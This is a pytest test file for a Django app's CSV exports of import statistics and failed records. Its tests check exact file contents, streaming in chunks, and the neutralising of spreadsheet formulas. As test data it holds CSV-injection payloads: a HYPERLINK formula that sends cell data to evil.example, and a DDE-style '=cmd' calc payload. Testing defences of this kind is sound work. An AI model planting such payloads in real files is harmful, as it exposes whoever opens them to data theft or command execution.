"""CSV exports: the Stats table and a run's failed records, streamed, with exact contents."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest
from django.http import StreamingHttpResponse
from django.urls import reverse
from django.utils import timezone

from imports.models import ImportRun
from stats import exports
from tests import factories
from tests.stats.conftest import error, make_records
from validation.errors import ERROR_REFERENCE

pytestmark = pytest.mark.django_db


def body_of(response) -> str:
    assert isinstance(response, StreamingHttpResponse)
    return b"".join(response.streaming_content).decode()


def test_stats_csv_exact(viewer_client, imp, editor):
    base = (timezone.now() - timedelta(hours=3)).replace(microsecond=0)
    base_txt = base.astimezone(UTC).strftime("%Y-%m-%d %H:%M:%S")
    factories.make_run(
        imp,
        total=1000,
        failed=250,
        created_at=base,
        expected_total=1200,
        trigger=ImportRun.Trigger.MANUAL,
        triggered_by=editor,
    )
    factories.make_run(
        imp, state=ImportRun.State.SKIPPED, total=0, created_at=base + timedelta(minutes=15)
    )
    factories.make_run(
        imp,
        state=ImportRun.State.FAILED,
        total=0,
        created_at=base + timedelta(minutes=30),
        error="Invalid credentials.",
        expected_total=None,
        trigger=ImportRun.Trigger.API,
    )
    stopped = factories.make_run(
        imp, state=ImportRun.State.STOPPED, total=0, created_at=base + timedelta(minutes=45)
    )
    ImportRun.objects.filter(pk=stopped.pk).update(successful=40, failed=2, partial=True)
    factories.make_run(imp, total=5, created_at=timezone.now() - timedelta(days=40))

    response = viewer_client.get(reverse("stats-export", args=[imp.code]))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="nightly-profiles-stats.csv"'

    def at(minutes: int) -> str:
        return (base + timedelta(minutes=minutes)).astimezone(UTC).strftime("%Y-%m-%d %H:%M:%S")

    assert body_of(response) == (
        "Date and Time (UTC),State,Health,Total Records,Successful Syncs,Failed Syncs,"
        "Already Imported,Expected Records,Note,Duration (seconds),Triggered By\n"
        f"{at(45)},Stopped,,,,,,0,"
        "Stopped — stats not available; 42 records ingested before the stop (partial),30,Schedule\n"
        f"{at(30)},Failed,Blank,0,0,0,0,,Invalid credentials.,30,API\n"
        f"{at(15)},Skipped,,,,,,0,Skipped — the previous run was still running,,Schedule\n"
        f"{base_txt},Completed,75.00%,1000,750,250,0,1200,Total differs from the source count,"
        f"30,Run now by {editor.get_username()}\n"
    )


def test_stats_csv_counts_rows_already_imported_apart(viewer_client, imp):
    base = (timezone.now() - timedelta(hours=1)).replace(microsecond=0)
    factories.make_run(imp, total=100, already_imported=100, created_at=base)
    factories.make_run(
        imp, total=100, failed=10, already_imported=60, created_at=base + timedelta(minutes=5)
    )
    response = viewer_client.get(reverse("stats-export", args=[imp.code]))
    rows = [line.split(",")[1:8] for line in body_of(response).splitlines()[1:]]
    # Health over the 40 rows not imported before (30 of them successful); Blank when none.
    assert rows == [
        ["Completed", "75.00%", "100", "30", "10", "60", "100"],
        ["Completed", "Blank", "100", "0", "0", "100", "100"],
    ]
    assert body_of(viewer_client.get(reverse("stats-export", args=[imp.code]))).endswith(
        ",All 100 rows were already imported,30,Schedule\n"
    )


def test_failed_records_csv_exact(viewer_client, yellow_run):
    response = viewer_client.get(
        reverse("stats-run-failed-export", args=[yellow_run.import_obj.code, yellow_run.code])
    )
    assert response.status_code == 200
    assert response["Content-Disposition"].endswith('-failed-records.csv"')
    ref = ERROR_REFERENCE
    expected = [
        "Row,Identity,Field,Error Code,Error,Resolution,Rejected Value,Value Note",
        f"2,null,user_id,invalid_identity,{ref['invalid_identity'].message},{ref['invalid_identity'].resolution},,not kept",
        f'5,user5,email,invalid_email,{ref["invalid_email"].message},"{ref["invalid_email"].resolution}",,not kept',
        f'8,user8,email,invalid_email,{ref["invalid_email"].message},"{ref["invalid_email"].resolution}",,not kept',
        f'8,user8,phone,invalid_phone,{ref["invalid_phone"].message},"{ref["invalid_phone"].resolution}",,not kept',
    ]
    assert body_of(response) == "\n".join(expected) + "\n"


def test_failed_records_csv_of_event_import_has_event_names(viewer_client, event_imp):
    run = factories.make_run(event_imp, total=1, failed=1)
    make_records(run, [("u1", [error("event", "prohibited_event_char")])], event="Bad|Name")
    response = viewer_client.get(
        reverse("stats-run-failed-export", args=[event_imp.code, run.code])
    )
    lines = body_of(response).splitlines()
    assert lines[0] == (
        "Row,Identity,Event Name,Field,Error Code,Error,Resolution,Rejected Value,Value Note"
    )
    assert lines[1].startswith("1,u1,Bad|Name,event,prohibited_event_char,")


def test_failed_records_csv_has_the_rejected_value_and_says_what_a_cell_cannot(imp):
    run = factories.make_run(imp, total=6, failed=6)
    values = [None, "", "  ", "=cmd|' /C calc'!A0", "x" * 200, "a\u2400b"]
    cut = [False, False, False, False, True, False]
    make_records(
        run,
        [
            (f"u{i}", [error("email", "invalid_email") | {"value": v, "cut": c}])
            for i, (v, c) in enumerate(zip(values, cut, strict=True))
        ],
    )
    rows = list(csv.reader(io.StringIO("".join(exports.failed_records_csv(run)), newline="")))
    assert [row[-2:] for row in rows[1:]] == [
        ["", "NULL"],
        ["", "blank"],
        ["  ", "white space only"],
        ["'=cmd|' /C calc'!A0", ""],  # a formula is neutralised, as in every cell
        ["x" * 200, "cut at 200 characters"],
        ["a\u2400b", ""],
    ]


def test_failed_records_csv_spans_many_chunks(imp):
    run = factories.make_run(imp, total=40, failed=40)
    make_records(run, [(f"u{i}", [error("email", "invalid_email")]) for i in range(40)])
    chunks = list(exports.failed_records_csv(run, chunk=7))
    assert len(chunks) == 1 + 6  # the header, then 40 records in chunks of 7
    lines = "".join(chunks).splitlines()
    assert [int(line.split(",")[0]) for line in lines[1:]] == list(range(1, 41))


def test_failed_records_csv_of_old_run_is_gone(viewer_client, imp):
    run = factories.make_run(imp, total=1, created_at=datetime.now(UTC) - timedelta(days=45))
    response = viewer_client.get(reverse("stats-run-failed-export", args=[imp.code, run.code]))
    assert response.status_code == 410
    assert b"Detailed records are available only for runs completed within the last 30 days" in (
        response.content
    )


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1",
    "-2",
    "@x",
    "\tcmd",
    "\rcmd",
]


def test_failed_records_csv_neutralises_formula_cells(viewer_client, event_imp):
    """Every text cell a spreadsheet would run as a formula starts with a quote; other cells
    are untouched."""
    import csv
    import io

    run = factories.make_run(event_imp, total=len(FORMULAS) + 1, failed=len(FORMULAS) + 1)
    specs = [(value, [error(value, "invalid_email")]) for value in FORMULAS]
    specs.append(("plain\u00a0user", [error("email", "invalid_email")]))
    make_records(run, specs, event="=1+1")
    body = body_of(
        viewer_client.get(reverse("stats-run-failed-export", args=[event_imp.code, run.code]))
    )
    rows = list(csv.reader(io.StringIO(body, newline="")))[1:]
    assert [row[1] for row in rows] == ["'" + v for v in FORMULAS] + ["plain\u00a0user"]
    assert [row[3] for row in rows] == ["'" + v for v in FORMULAS] + ["email"]
    assert {row[2] for row in rows} == {"'=1+1"}
    assert [row[0] for row in rows] == [str(n) for n in range(1, len(FORMULAS) + 2)]


def test_stats_csv_neutralises_formula_cells(viewer_client, imp):
    import csv
    import io

    for i, value in enumerate(FORMULAS):
        factories.make_run(
            imp,
            state=ImportRun.State.FAILED,
            total=0,
            created_at=timezone.now() - timedelta(minutes=i + 1),
            error=value,
        )
    body = body_of(viewer_client.get(reverse("stats-export", args=[imp.code])))
    rows = list(csv.reader(io.StringIO(body, newline="")))[1:]
    assert [row[8] for row in rows] == ["'" + v for v in FORMULAS]


ODD_CELLS = [
    'a,b "quoted"',
    "line\nbreak",
    "carriage\rreturn",
    "crlf\r\ninside",
    "tab\tinside",
    "back\\slash",
    "no\u00a0break",
    "it's",
    "𝔘" * 1024,
    "",
]


def test_failed_records_csv_keeps_odd_cells_exactly(viewer_client, event_imp):
    """Identities, event names and column names come from the warehouse: every one reads back
    from the file as it was, and every line ends in LF (a bare CR inside a cell is quoted)."""
    import csv
    import io

    run = factories.make_run(event_imp, total=len(ODD_CELLS), failed=len(ODD_CELLS))
    RecordResult = run.records.model
    RecordResult.objects.bulk_create(
        RecordResult(
            run=run,
            row_number=n,
            success=False,
            identity=value,
            event_name=value,
            errors=[error("email", "invalid_email") | {"field": value}],
        )
        for n, value in enumerate(ODD_CELLS, 1)
    )
    body = body_of(
        viewer_client.get(reverse("stats-run-failed-export", args=[event_imp.code, run.code]))
    )
    rows = list(csv.reader(io.StringIO(body, newline="")))
    assert rows[0] == [
        "Row",
        "Identity",
        "Event Name",
        "Field",
        "Error Code",
        "Error",
        "Resolution",
        "Rejected Value",
        "Value Note",
    ]
    assert [row[1:4] for row in rows[1:]] == [[value] * 3 for value in ODD_CELLS]
    unquoted = body.replace('"carriage\rreturn"', "").replace('"crlf\r\ninside"', "")
    assert "\r" not in unquoted
